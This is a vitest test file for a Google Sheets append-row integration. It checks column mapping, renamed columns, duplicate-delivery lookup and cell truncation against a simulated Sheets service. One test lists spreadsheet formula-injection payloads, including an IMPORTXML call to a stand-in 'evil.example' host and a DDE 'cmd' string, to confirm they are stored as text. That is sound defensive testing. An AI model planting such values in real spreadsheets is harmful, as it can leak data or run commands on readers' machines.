import { compileMapping } from '@handoff/shared/mapping';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { createCallContext, type CallContext } from '../kit/index.ts';
import { GOOGLE_ACCOUNT } from '../testing/google.ts';
import { refusalOf } from '../testing/refusal.ts';
import { contactForm7, formSubmitted } from '../testing/samples.ts';
import { shopify } from '../testing/shopify.ts';
import { appendRow } from './append-row.ts';
import { googleSheets } from './index.ts';
import { Settings } from './settings.ts';
import { sheetsContract } from './twin/contract.ts';
import { ACCESS_TOKEN, createSheetsTwin, SPREADSHEET, type SheetsTwin, type SheetsTwinOptions } from './twin/index.ts';

const checkContract = sheetsContract();
let twin: SheetsTwin;
let ctx: CallContext<Settings>;

function start(tabs?: SheetsTwinOptions['tabs'], settings: Partial<Settings> = {}): void {
  twin = createSheetsTwin({ ...(tabs === undefined ? {} : { tabs }), checkContract });
  ctx = contextOf(settings);
}
function contextOf(settings: Partial<Settings> = {}, delivery = 'evt_1:flow:row'): CallContext<Settings> {
  return createCallContext({
    definition: googleSheets,
    settings: Settings.parse({ spreadsheet: SPREADSHEET, account: GOOGLE_ACCOUNT, ...settings }),
    accessToken: ACCESS_TOKEN,
    fetch: twin.fetch,
    idempotencyKey: delivery,
    eventId: 'evt_1',
    now: () => 0,
    dedupe: 'ledger',
    record: () => undefined,
  });
}
const append = (cells: Record<string, unknown>, context = ctx) => appendRow.perform(context, appendRow.payload.parse({ cells }));
const lookUp = async (context = ctx) => appendRow.lookup?.(context, { cells: { Name: 'Ada' } });
const labels = async () => (await appendRow.listFields?.(ctx))?.map(({ label }) => label);
const KEY = expect.stringMatching(/^evt_1-[0-9a-f]{8}$/) as string;
const EVENT = 'Handoff event';

beforeEach(() => start());
afterEach(() => expect(twin.violations).toEqual([]));

describe('a row', () => {
  it('goes below the others, under its columns wherever these stand', async () => {
    start(
      {
        Leads: [
          ['E-mail', EVENT, 'Name'],
          ['grace@example.com', 'evt_0-00000000', 'Grace'],
        ],
      },
      { sheet: 'Leads' },
    );
    const done = await append({ Name: 'Ada', 'e-mail ': 'ada@example.com' });
    expect(twin.rows('Leads')[2]).toEqual(['ada@example.com', KEY, 'Ada']);
    expect(done).toEqual({
      id: KEY,
      url: `https://docs.google.com/spreadsheets/d/${SPREADSHEET}/edit#gid=0&range=A3`,
      output: { id: KEY, row: 3 },
      effect: 'created',
    });
  });

  it.each(['=IMPORTXML("https://evil.example","//a")', '+4930123456', "=cmd|' /C calc'!A0", '@SUM(1)', '-1+2', '007', '1/2'])(
    'keeps %j as the text it is, never as a formula',
    async (text) => {
      const { differences } = await append({ Name: text });
      expect(twin.rows()[1]?.[0]).toBe(text);
      expect(differences).toBeUndefined();
    },
  );

  it('keeps numbers and answers as such, joins lists, and leaves out what is empty', async () => {
    await append({ Total: 149.9, Paid: true, Topics: ['a', null, 'b'], Note: '', None: null });
    expect(twin.rows()).toEqual([
      ['Total', 'Paid', 'Topics', 'Note', 'None', EVENT],
      [149.9, true, 'a, b', null, null, KEY],
    ]);
  });

  it('shortens what does not fit into a cell, and says so', async () => {
    const { differences } = await append({ Message: `${'x'.repeat(49_999)}🙂` });
    expect(twin.rows()[1]?.[0]).toBe('x'.repeat(49_999));
    expect(differences).toEqual([{ path: '/cells/Message', message: expect.stringContaining('Shortened') }]);
  });

  it('tells what Google keeps differently', async () => {
    twin.alterAppended((value) => (value === 'Ada' ? 'ADA' : value === 7 ? null : value));
    const { differences } = await append({ Name: 'Ada', Count: 7, Town: 'London' });
    expect(differences).toEqual([
      { path: '/cells/Name', message: expect.stringContaining('another value') },
      { path: '/cells/Count', message: expect.stringContaining('empty') },
    ]);
  });

  it('leaves columns alone that are not mapped, and the second of two of one name', async () => {
    start({ Sheet1: [['Name', 'Name', 'Our notes', EVENT]] });
    await append({ Name: 'Ada' });
    expect(twin.rows()[1]).toEqual(['Ada', null, null, KEY]);
  });

  it('does not write over what stands below an empty row', async () => {
    start({ Sheet1: [['Name', EVENT], ['Grace', 'x'], [], ['Sum', 12]] });
    await append({ Name: 'Ada' });
    expect(twin.rows()).toEqual([['Name', EVENT], ['Grace', 'x'], ['Ada', KEY], [], ['Sum', 12]]);
  });

  it('begins where the header does, and says where Google put it elsewhere', async () => {
    start({ Sheet1: [[null, 'Name', EVENT]] });
    expect((await append({ Name: 'Ada' })).differences).toBeUndefined();
    expect(twin.rows()[1]).toEqual([null, 'Ada', KEY]);
    start({
      Sheet1: [
        [null, 'Name', EVENT],
        ['stray', null, null],
      ],
    });
    expect((await append({ Name: 'Ada' })).differences).toEqual([
      { path: '/cells', message: expect.stringContaining('column A of row 3') },
    ]);
  });
});

describe('columns that people change', () => {
  it('follows a column that was moved or got a new neighbour', async () => {
    await append({ Name: 'Ada', Phone: '1' });
    twin.edit((rows) => rows.forEach((row, index) => row.unshift(index === 0 ? 'Status' : null)));
    await append({ Name: 'Bo', Phone: '2' }, contextOf({}, 'evt_1:flow:other'));
    expect(twin.rows()[2]?.slice(0, 3)).toEqual([null, 'Bo', '2']);
  });

  it('adds a column that was renamed, loses nothing, and says so', async () => {
    await append({ Name: 'Ada', Phone: '1' });
    twin.edit((rows) => (rows[0]![1] = 'Mobile'));
    const { differences } = await append({ Name: 'Bo', Phone: '2' }, contextOf({}, 'evt_1:flow:other'));
    expect(twin.rows()[0]).toEqual(['Name', 'Mobile', EVENT, 'Phone']);
    expect(twin.rows()[2]).toEqual(['Bo', null, KEY, '2']);
    expect(differences).toEqual([{ path: '/cells/Phone', message: expect.stringContaining('no column "Phone"') }]);
    expect(await labels()).toEqual(['Name', 'Mobile', 'Phone']);
  });

  it('or refuses the row, where the owner wants that', async () => {
    start({ Sheet1: [['Name', 'Mobile']] }, { missingColumns: 'refuse' });
    expect((await refusalOf(append({ Name: 'Bo', Phone: '2' }))).classification).toMatchObject({
      kind: 'permanent',
      code: 'column_missing',
      problems: [{ path: '/cells/Phone', message: expect.stringContaining('renamed') }],
    });
    expect(twin.rows()).toEqual([['Name', 'Mobile']]);
  });

  it('writes no second header above one that was pushed down', async () => {
    start({ Sheet1: [[], ['Name', EVENT], ['Ada', 'x']] });
    expect((await refusalOf(append({ Name: 'Bo' }))).classification).toMatchObject({ kind: 'permanent', code: 'header_missing' });
    expect((await refusalOf(lookUp())).classification).toMatchObject({ kind: 'unknown' });
  });

  it('says so where the sheet has no room for a new one', async () => {
    start({ Sheet1: [Array.from({ length: 26 }, (_, index) => `Column ${index}`)] });
    expect((await refusalOf(append({ Name: 'Bo' }))).classification).toMatchObject({ kind: 'permanent', code: 'no_column_left' });
  });

  it('is sure that no row was written where only the header is in doubt', async () => {
    twin.inject({ match: /^PUT /, when: 'after', answer: 'reset' });
    expect((await refusalOf(append({ Name: 'Ada' }))).classification).toMatchObject({ kind: 'retry' });
    await append({ Name: 'Ada' });
    expect(twin.rows()).toEqual([
      ['Name', EVENT],
      ['Ada', KEY],
    ]);
  });
});

describe('finding what an earlier try wrote', () => {
  it('knows its own delivery from another of the same event', async () => {
    await append({ Name: 'Ada' });
    expect(await lookUp()).toMatchObject({ output: { row: 2 } });
    expect(await lookUp(contextOf({}, 'evt_1:flow:other'))).toBeUndefined();
  });

  it('finds it where people sorted the rows and moved the column', async () => {
    await append({ Name: 'Ada' });
    twin.edit((rows) => {
      rows.splice(1, 0, ['Bo', 'evt_9-00000000'], [], ['Cy', null]);
      rows.forEach((row) => row.unshift(null));
    });
    expect(await lookUp()).toMatchObject({ output: { row: 5 } });
  });

  it('searches a long sheet from its end, in pieces', async () => {
    start({ Sheet1: [['Name', EVENT], ...Array.from({ length: 45_000 }, (_, index) => [null, `evt_x-${index}`])] });
    await append({ Name: 'Ada' });
    expect(await lookUp()).toMatchObject({ output: { row: 45_002 } });
    expect(twin.requests.filter(({ path }) => path.includes('majorDimension'))).toHaveLength(1);
    expect(await lookUp(contextOf({}, 'evt_1:flow:other'))).toBeUndefined();
    expect(twin.requests.filter(({ path }) => path.includes('majorDimension'))).toHaveLength(4);
  });

  it('does not swear that it is absent where the column of the event is gone', async () => {
    await append({ Name: 'Ada' });
    twin.edit((rows) => (rows[0]![1] = 'No.'));
    expect((await refusalOf(lookUp())).classification).toMatchObject({ kind: 'unknown', message: expect.stringContaining(EVENT) });
  });

  it('waits where the answer is no spreadsheet, and doubts where the answer to writing is none', async () => {
    twin.inject({ when: 'before', answer: { status: 200, body: { hello: 1 } } });
    expect((await refusalOf(lookUp())).classification).toMatchObject({ kind: 'retry' });
    twin.inject({ match: /:append$/, when: 'after', answer: { status: 200, body: {} } });
    expect((await refusalOf(append({ Name: 'Ada' }))).classification).toMatchObject({ kind: 'unknown', code: 'unexpected_answer' });
  });
});

describe('the fields', () => {
  it('are the names in the first row, once each, without our own', async () => {
    start({ Sheet1: [['Name', '', 'Total/EUR', 'name', EVENT, 'x'.repeat(401)]] });
    expect(await appendRow.listFields?.(ctx)).toEqual([
      { path: '/cells/Name', label: 'Name', type: 'string', required: false },
      { path: '/cells/Total~1EUR', label: 'Total/EUR', type: 'string', required: false },
    ]);
  });

  it('say which tab is missing', async () => {
    start(undefined, { sheet: 'Leads' });
    expect((await refusalOf(labels())).classification).toMatchObject({ kind: 'permanent', code: 'no_such_tab' });
  });
});

describe('the first mapping, unedited', () => {
  it.each([
    [
      'a contact form',
      formSubmitted,
      { Name: 'Ada Lovelace', 'E-mail': 'ada@example.com', Form: 'Contact', Message: 'I would like an offer for 3 engines.' },
    ],
    ['Contact Form 7', contactForm7, { Name: 'Ada Lovelace', Message: 'Hello' }],
    ['an order', shopify('orders-create-company'), { Total: expect.any(Number), Order: expect.stringContaining('#') }],
    ['an order of a guest', shopify('orders-create-guest'), { Total: expect.any(Number) }],
    ['an order without protected data', shopify('orders-create-no-protected-data'), { Total: expect.any(Number) }],
    ['anything else', { ...formSubmitted, type: 'payment.failed' }, { Event: 'payment.failed', Name: 'Ada Lovelace' }],
  ])('fits %s, and an empty sheet gets its header', async (_, event, expected) => {
    for (const sample of [event, undefined]) {
      start();
      const { payload, problems } = compileMapping(appendRow.defaultMapping(event.type, sample)).apply(event);
      expect(problems).toEqual([]);
      await appendRow.perform(ctx, appendRow.payload.parse(payload));
      const [header = [], row = []] = twin.rows();
      expect(Object.fromEntries(header.map((name, index) => [name, row[index]]))).toMatchObject(expected);
      expect(header.at(-1)).toBe(EVENT);
    }
  });

  it('gives an empty sheet all its columns at once, also those the first event says nothing about', async () => {
    const map = (event: typeof formSubmitted) =>
      compileMapping(appendRow.defaultMapping('form.submitted', contactForm7)).apply(event).payload;
    await appendRow.perform(ctx, appendRow.payload.parse(map(contactForm7)));
    const { differences } = await appendRow.perform(contextOf({}, 'evt_2:flow:row'), appendRow.payload.parse(map(formSubmitted)));
    expect(differences).toBeUndefined();
    expect(twin.rows()[0]).toEqual(['Date', 'Form', 'Name', 'E-mail', 'Phone', 'Company', 'Message', 'Page', EVENT]);
    expect(twin.rows()[2]?.[4]).toBe('+4930123456');
  });
});
